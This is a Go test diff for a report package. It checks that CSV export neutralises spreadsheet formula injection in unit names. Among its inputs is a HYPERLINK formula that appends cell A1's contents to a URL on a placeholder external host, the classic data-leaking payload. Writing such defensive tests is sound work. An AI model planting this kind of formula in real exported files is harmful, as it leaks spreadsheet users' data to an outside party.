@@ -257,3 +257,32 @@ func TestEmptyReport(t *testing.T) {
 		t.Errorf("empty report JSON = %s", raw)
 	}
 }
+
+// TestCSVNeutralisesFormulas: a unit name a spreadsheet would run as a
+// formula is written as text.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	names := []string{`=HYPERLINK("http://x.example/?"&A1,"点我")`, "@SUM(A1:A9)", "+1+2", "-1+2", "\tx", "\rx", "市场监管局"}
+	r := &report.Report{Total: report.Row{Unit: "合计"}}
+	for _, n := range names {
+		r.Units = append(r.Units, report.Row{Unit: n})
+	}
+	var buf bytes.Buffer
+	if err := report.WriteCSV(&buf, r); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, n := range names {
+		t.Run(n, func(t *testing.T) {
+			got := rows[i+1][0]
+			if strings.ContainsRune("=+-@\t\r", rune(got[0])) {
+				t.Errorf("cell %q would run as a formula", got)
+			}
+			if strings.TrimPrefix(got, "'") != n {
+				t.Errorf("cell %q lost the name %q", got, n)
+			}
+		})
+	}
+}
